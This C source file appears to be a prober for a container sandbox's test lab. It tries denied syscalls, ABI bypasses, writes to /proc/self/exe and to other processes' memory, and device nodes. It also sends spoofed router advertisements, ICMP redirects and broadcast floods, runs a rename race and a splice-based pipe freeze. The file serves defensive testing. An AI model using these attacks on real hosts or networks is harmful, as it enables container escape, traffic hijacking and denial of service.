/*
 * What a hostile program in a container would try, one attempt a word; compiled static by tests/lab/prober.ts. Each
 * prints lines of "NAME RESULT", where the result is "ok" or the errno's name.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static void tell(const char *name, long result) {
  printf("%s %s\n", name, result < 0 ? strerrorname_np(errno) : "ok");
  fflush(stdout);
}

/* unshare(2) in a process of its own, which may then be of no further use. */
static void unshares(const char *name, long flags) {
  pid_t child = fork();
  if (child == 0) {
    tell(name, syscall(SYS_unshare, flags));
    _exit(0);
  }
  waitpid(child, 0, 0);
}

/* Calls that the filter denies. Arguments are such that the kernel itself would answer something else than EPERM. */
static void calls(void) {
  char junk[256] = { 0 };
  tell("keyctl", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 1));
  tell("add_key", syscall(SYS_add_key, "user", "probe", "x", 1, -3));
  tell("request_key", syscall(SYS_request_key, "user", "probe", 0, 0));
  tell("bpf", syscall(SYS_bpf, 5 /* PROG_LOAD */, junk, sizeof junk));
  tell("perf_event_open", syscall(SYS_perf_event_open, junk, 0, -1, -1, 0));
  tell("userfaultfd", syscall(SYS_userfaultfd, 1 /* USER_MODE_ONLY */));
  tell("kexec_load", syscall(SYS_kexec_load, 0, 17, 0, 0));
  tell("kexec_file_load", syscall(SYS_kexec_file_load, -1, -1, 0, 0, 0));
  tell("open_by_handle_at", syscall(SYS_open_by_handle_at, -1, junk, 0));
  tell("syslog", syscall(SYS_syslog, 10 /* SIZE_BUFFER */, 0, 0));
  tell("io_uring_setup", syscall(SYS_io_uring_setup, 1, junk));
  tell("io_uring_enter", syscall(SYS_io_uring_enter, -1, 0, 0, 0, 0, 0));
  tell("io_uring_register", syscall(SYS_io_uring_register, -1, 0, 0, 0));
  tell("clone3", syscall(SYS_clone3, junk, 0));
  unshares("unshare-user", CLONE_NEWUSER);
  unshares("unshare-user-among", CLONE_NEWUSER | CLONE_NEWNS | CLONE_FILES);
  long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  tell("clone-user", pid);
  /* The high half of a flags word that the kernel reads as 64 bits must not hide the low one. */
  pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD | (1ul << 40), 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  tell("clone-user-high", pid);
  tell("socket-vsock", syscall(SYS_socket, 40, SOCK_STREAM, 0));
  tell("socket-vsock-high", syscall(SYS_socket, 40 | (1ul << 32), SOCK_STREAM, 0));
  tell("socketpair-vsock", syscall(SYS_socketpair, 40, SOCK_STREAM, 0, junk));
  tell("tiocsti", syscall(SYS_ioctl, 0, 0x5412ul, "x"));
  tell("tiocsti-high", syscall(SYS_ioctl, 0, 0x5412ul | (1ul << 32), "x"));
  tell("tiocsti-higher", syscall(SYS_ioctl, 0, 0x5412ul | (0xffffffffUL << 32), "x"));
  tell("socket-inet", syscall(SYS_socket, AF_INET, SOCK_STREAM, 0));
  unshares("unshare-files", CLONE_FILES);
}

/* Calls of other ABIs of the same machine, where it has any. */
static void abi(void) {
#ifdef __x86_64__
  errno = 0;
  tell("x32-getpid", syscall(SYS_getpid | 0x40000000));
  tell("x32-keyctl", syscall(SYS_keyctl | 0x40000000, 0, -3, 1));
  pid_t child = fork(); /* a kernel without i386 answers int $0x80 with a signal */
  if (child == 0) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(20 /* getpid */) : "r8", "r9", "r10", "r11", "memory");
    printf("i386-getpid %s\n", result < 0 ? strerrorname_np(-result) : "ok");
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(288 /* keyctl */), "b"(0), "c"(-3), "d"(1)
                     : "r8", "r9", "r10", "r11", "memory");
    printf("i386-keyctl %s\n", result < 0 ? strerrorname_np(-result) : "ok");
    fflush(stdout);
    _exit(0);
  }
  int status;
  waitpid(child, &status, 0);
  if (WIFSIGNALED(status)) printf("i386-getpid none\ni386-keyctl none\n");
#else
  printf("x32-getpid none\nx32-keyctl none\ni386-getpid none\ni386-keyctl none\n");
#endif
}

/* What can be done to descriptor N: reopened for writing, given another mode, owner or size. */
static void descriptor(const char *word) {
  int fd = atoi(word);
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  struct stat status;
  if (fstat(fd, &status) < 0) {
    tell("stat", -1);
    return;
  }
  const char *kind = S_ISREG(status.st_mode) ? "file" : S_ISFIFO(status.st_mode) ? "pipe"
    : S_ISSOCK(status.st_mode) ? "socket" : S_ISDIR(status.st_mode) ? "directory"
    : S_ISCHR(status.st_mode) ? "character" : "other";
  fprintf(stderr, "kind %s\n", kind);
  fprintf(stderr, "terminal %s\n", isatty(fd) ? "yes" : "no");
  fprintf(stderr, "fchmod %s\n", fchmod(fd, status.st_mode & 0777 ? 0600 : 0666) < 0 ? strerrorname_np(errno) : "ok");
  fprintf(stderr, "fchown %s\n", fchown(fd, 12, 34) < 0 ? strerrorname_np(errno) : "ok");
  fprintf(stderr, "ftruncate %s\n", ftruncate(fd, 0) < 0 ? strerrorname_np(errno) : "ok");
  int again = open(path, O_WRONLY | O_NONBLOCK);
  fprintf(stderr, "reopen %s\n", again < 0 ? strerrorname_np(errno) : "ok");
}

/* Which descriptors are open, beside the one that looks. */
static void descriptors(void) {
  DIR *directory = opendir("/proc/self/fd");
  for (struct dirent *entry; (entry = readdir(directory));) {
    if (entry->d_name[0] != '.' && atoi(entry->d_name) != dirfd(directory)) printf("%s\n", entry->d_name);
  }
}

/* Opens each path, for reading and for writing, without waiting. */
static void opens(char **paths) {
  for (; *paths; paths++) {
    int reading = open(*paths, O_RDONLY | O_NONBLOCK | O_NOCTTY);
    int why = errno;
    int writing = open(*paths, O_WRONLY | O_NONBLOCK | O_NOCTTY);
    printf("%s %s %s\n", *paths, reading < 0 ? strerrorname_np(why) : "ok", writing < 0 ? strerrorname_np(errno) : "ok");
    if (reading >= 0) close(reading);
    if (writing >= 0) close(writing);
  }
}

/*
 * Every file below the given directories that opens for writing, those of processes left out, and those that nobody is
 * meant to write: root opens these as well, and the kernel then refuses the write.
 */
static void walk(const char *path, int depth) {
  struct stat status;
  if (lstat(path, &status) < 0 || S_ISLNK(status.st_mode)) return;
  if (S_ISREG(status.st_mode)) {
    if (!(status.st_mode & 0222)) return;
    int fd = open(path, O_WRONLY | O_NONBLOCK);
    if (fd >= 0) {
      printf("%s\n", path);
      close(fd);
    }
    return;
  }
  if (!S_ISDIR(status.st_mode) || depth > 24) return;
  DIR *directory = opendir(path);
  if (!directory) return;
  for (struct dirent *entry; (entry = readdir(directory));) {
    if (entry->d_name[0] == '.') continue;
    if (!strcmp(path, "/proc") && entry->d_name[0] >= '0' && entry->d_name[0] <= '9') continue;
    char below[4096];
    if (snprintf(below, sizeof below, "%s/%s", path, entry->d_name) < (int)sizeof below) walk(below, depth + 1);
  }
  closedir(directory);
}

/* Makes a node of a device and opens it: TYPE MAJOR MINOR PATH. */
static void node(char **words) {
  mode_t type = words[0][0] == 'b' ? S_IFBLK : S_IFCHR;
  int major = atoi(words[1]), minor = atoi(words[2]);
  tell("mknod", mknod(words[3], type | 0666, (dev_t)((major << 8) | minor)));
  tell("open", open(words[3], O_RDONLY | O_NONBLOCK));
}

/*
 * As whatever the kernel is brought to execute in the name of a hostile root file system: tells which program's image
 * this process stands on, and tries to get that for writing.
 */
static void executable(void) {
  struct stat status;
  char path[4096] = { 0 };
  if (readlink("/proc/self/exe", path, sizeof path - 1) < 0) snprintf(path, sizeof path, "?");
  if (stat("/proc/self/exe", &status) < 0) memset(&status, 0, sizeof status);
  int fd = open("/proc/self/exe", O_WRONLY);
  printf("executable %s %ld %s\n", path, (long)status.st_size, fd < 0 ? strerrorname_np(errno) : "ok");
  fflush(stdout);
}

static volatile sig_atomic_t stopped;
static void stop(int signal) { stopped = signal; }

/*
 * For SECONDS or until SIGTERM: looks at every process it sees but itself and its children, and tries to write its memory and its
 * executable. Tells what succeeded, once for each name.
 */
static void poll_processes(const char *word) {
  time_t end = time(0) + atoi(word);
  long looked = 0;
  signal(SIGTERM, stop);
  while (time(0) < end && !stopped) {
    DIR *directory = opendir("/proc");
    for (struct dirent *entry; directory && (entry = readdir(directory));) {
      int pid = atoi(entry->d_name);
      if (pid <= 0 || pid == getpid()) continue;
      looked++;
      static const char *const files[] = { "mem", "exe", "root", "cwd", "fd/0", "fd/1", "fd/3", "environ", "maps" };
      for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
        char path[64], target[4096] = { 0 };
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
        if (i >= 1 && i <= 3 && readlink(path, target, sizeof target - 1) > 0) {
          if (strstr(target, "skdocker")) printf("%s -> %s\n", files[i], target);
        }
        int fd = open(path, i <= 1 ? O_RDWR : O_RDONLY | O_NONBLOCK);
        if (fd < 0) continue;
        if (i == 1) printf("%s opened for writing\n", files[i]);
        close(fd);
      }
    }
    if (directory) closedir(directory);
  }
  printf("looked %ld\n", looked);
}

static uint16_t checksum(const void *data, size_t length, uint32_t sum) {
  const uint8_t *bytes = data;
  for (size_t i = 0; i + 1 < length; i += 2) sum += (bytes[i] << 8) | bytes[i + 1];
  if (length & 1) sum += bytes[length - 1] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

static void send_frame(int fd, int index, const uint8_t *frame, size_t length) {
  struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = index, .sll_halen = 6 };
  memcpy(to.sll_addr, frame, 6);
  sendto(fd, frame, length, 0, (struct sockaddr *)&to, sizeof to);
}

/* ROUTER LINK: router advertisements with a prefix, a route and a name server, to all nodes. */
static void advertise(int fd, int index, const uint8_t *mac) {
  uint8_t frame[14 + 40 + 16 + 32 + 8] = { 0x33, 0x33, 0, 0, 0, 1 };
  memcpy(frame + 6, mac, 6);
  frame[12] = 0x86, frame[13] = 0xdd;
  uint8_t *ip = frame + 14, *icmp = ip + 40;
  size_t length = sizeof frame - 54;
  ip[0] = 0x60, ip[4] = length >> 8, ip[5] = length & 255, ip[6] = 58, ip[7] = 255;
  inet_pton(AF_INET6, "fe80::bad", ip + 8);
  inet_pton(AF_INET6, "ff02::1", ip + 24);
  icmp[0] = 134, icmp[4] = 64, icmp[6] = 0xff, icmp[7] = 0xff;
  uint8_t *prefix = icmp + 16;
  prefix[0] = 3, prefix[1] = 4, prefix[2] = 64, prefix[3] = 0xc0;
  memset(prefix + 4, 0xff, 8);
  inet_pton(AF_INET6, "2001:db8:bad::", prefix + 16);
  uint8_t *lladdr = prefix + 32;
  lladdr[0] = 1, lladdr[1] = 1;
  memcpy(lladdr + 2, mac, 6);
  uint32_t sum = length + 58;
  for (int i = 8; i < 40; i += 2) sum += (ip[i] << 8) | ip[i + 1];
  uint16_t check = checksum(icmp, length, sum);
  memcpy(icmp + 2, &check, 2);
  send_frame(fd, index, frame, sizeof frame);
}

/* An ICMP redirect that seems to come from the gateway: 220.181.38.152 is to be reached over us. */
static void redirect(int fd, int index, const uint8_t *mac, const uint8_t *to, char **words) {
  uint8_t frame[14 + 20 + 8 + 28] = { 0 };
  memcpy(frame, to, 6);
  memcpy(frame + 6, mac, 6);
  frame[12] = 8;
  uint8_t *ip = frame + 14, *icmp = ip + 20, *inner = icmp + 8;
  ip[0] = 0x45, ip[3] = 56, ip[8] = 64, ip[9] = 1;
  inet_pton(AF_INET, words[0], ip + 12); /* whom the receiver takes for its router */
  inet_pton(AF_INET, words[1], ip + 16); /* the receiver */
  uint16_t check = checksum(ip, 20, 0);
  memcpy(ip + 10, &check, 2);
  icmp[0] = 5, icmp[1] = 1;
  inet_pton(AF_INET, words[2], icmp + 4); /* the new router: us */
  inner[0] = 0x45, inner[3] = 28, inner[8] = 64, inner[9] = 17;
  memcpy(inner + 12, ip + 16, 4);
  inet_pton(AF_INET, words[3], inner + 16); /* the destination that is to be led over us */
  check = checksum(inner, 20, 0);
  memcpy(inner + 10, &check, 2);
  inner[21] = 53, inner[23] = 53, inner[25] = 8;
  check = checksum(icmp, 8 + 28, 0);
  memcpy(icmp + 2, &check, 2);
  send_frame(fd, index, frame, sizeof frame);
}

/* LINK ROUTER RECEIVER OURS DESTINATION: sends both kinds, a few times, to everyone and to RECEIVER's link. */
static void route_attack(char **words) {
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  int index = if_nametoindex(words[0]);
  struct ifreq request = { 0 };
  strcpy(request.ifr_name, words[0]);
  ioctl(fd, SIOCGIFHWADDR, &request);
  uint8_t mac[6], all[6] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
  memcpy(mac, request.ifr_hwaddr.sa_data, 6);
  for (int i = 0; i < 20; i++) {
    advertise(fd, index, mac);
    redirect(fd, index, mac, all, words + 1);
    usleep(10000);
  }
  printf("sent\n");
}

/* LINK COUNT: as many broadcasts from as many hardware and IP addresses, to a closed port. */
static void flood(char **words) {
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  int index = if_nametoindex(words[0]);
  uint8_t frame[14 + 20 + 8] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 2, 0xf1 };
  frame[12] = 8;
  uint8_t *ip = frame + 14;
  ip[0] = 0x45, ip[3] = 28, ip[8] = 64, ip[9] = 17;
  inet_pton(AF_INET, "172.16.255.255", ip + 16);
  ip[23] = 9, ip[25] = 8; /* length */
  for (uint32_t i = 0; i < (uint32_t)atoi(words[1]); i++) {
    uint32_t number = htonl(i);
    memcpy(frame + 8, &number, 4);
    number = htonl(0xac100000u | (i & 0xffff));
    memcpy(ip + 12, &number, 4);
    ip[10] = ip[11] = 0;
    uint16_t check = checksum(ip, 20, 0);
    memcpy(ip + 10, &check, 2);
    send_frame(fd, index, frame, sizeof frame);
  }
  printf("flooded\n");
}

/* Swaps NAME and OTHER in DIRECTORY as fast as it can, for SECONDS. */
static void swap(char **words) {
  int directory = open(words[0], O_PATH | O_DIRECTORY);
  time_t end = time(0) + atoi(words[3]);
  printf("swapping\n");
  fflush(stdout);
  while (time(0) < end) syscall(SYS_renameat2, directory, words[1], directory, words[2], 2 /* EXCHANGE */);
}

/* Tells whenever PATH is opened, until it is killed. */
static void watch(const char *path) {
  int fd = inotify_init1(0);
  if (inotify_add_watch(fd, path, IN_OPEN) < 0) exit(1);
  printf("watching\n");
  fflush(stdout);
  char event[4096];
  while (read(fd, event, sizeof event) > 0) {
    printf("opened\n");
    fflush(stdout);
  }
}

/* Looks for a key in the session's keyring; or, with a command behind, begins a session that has it, and goes on as that. */
static void key(char **command) {
  if (!command[0]) {
    tell("find", syscall(SYS_keyctl, 10 /* SEARCH */, -3 /* session */, "user", "skdocker:probe", 0));
    return;
  }
  syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, 0);
  tell("add", syscall(SYS_add_key, "user", "skdocker:probe", "secret", 6, -3));
  execv(command[0], command);
}

static void leave(int signal) { _exit(40 + signal); }

/*
 * Keeps the pipes locked that standard output and standard input are, if they are: a splice waits for a socket with
 * the pipe's lock held, and who reads or writes the pipe's other end waits for that. Ends at SIGTERM.
 */
static void freeze(void) {
  int pair[2], other[2];
  socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
  socketpair(AF_UNIX, SOCK_STREAM, 0, other);
  signal(SIGTERM, leave);
  if (fork() == 0) {
    for (;;) syscall(SYS_splice, pair[0], 0, 1, 0, 4096, 0);
  }
  if (fork() == 0) { /* a socket that takes no more, fed from standard input */
    char junk[65536] = { 0 };
    fcntl(other[0], F_SETFL, O_NONBLOCK);
    while (write(other[0], junk, sizeof junk) > 0) continue;
    while (write(other[0], junk, 1) > 0) continue;
    fcntl(other[0], F_SETFL, 0);
    for (;;) syscall(SYS_splice, 0, 0, other[0], 0, 4096, 0);
  }
  usleep(100000);
  fprintf(stderr, "frozen\n"); /* and now there is something to read */
  write(pair[1], "x", 1);
  for (;;) pause();
}

int main(int count, char **words) {
  const char *what = count > 1 ? words[1] : "executable";
  if (!strcmp(what, "calls")) calls();
  else if (!strcmp(what, "abi")) abi();
  else if (!strcmp(what, "descriptor")) descriptor(words[2]);
  else if (!strcmp(what, "descriptors")) descriptors();
  else if (!strcmp(what, "opens")) opens(words + 2);
  else if (!strcmp(what, "writable")) for (char **path = words + 2; *path; path++) walk(*path, 0);
  else if (!strcmp(what, "node")) node(words + 2);
  else if (!strcmp(what, "poll")) poll_processes(words[2]);
  else if (!strcmp(what, "routes")) route_attack(words + 2);
  else if (!strcmp(what, "key")) key(words + 2);
  else if (!strcmp(what, "freeze")) freeze();
  else if (!strcmp(what, "flood")) flood(words + 2);
  else if (!strcmp(what, "watch")) watch(words[2]);
  else if (!strcmp(what, "swap")) swap(words + 2);
  else executable();
  return 0;
}
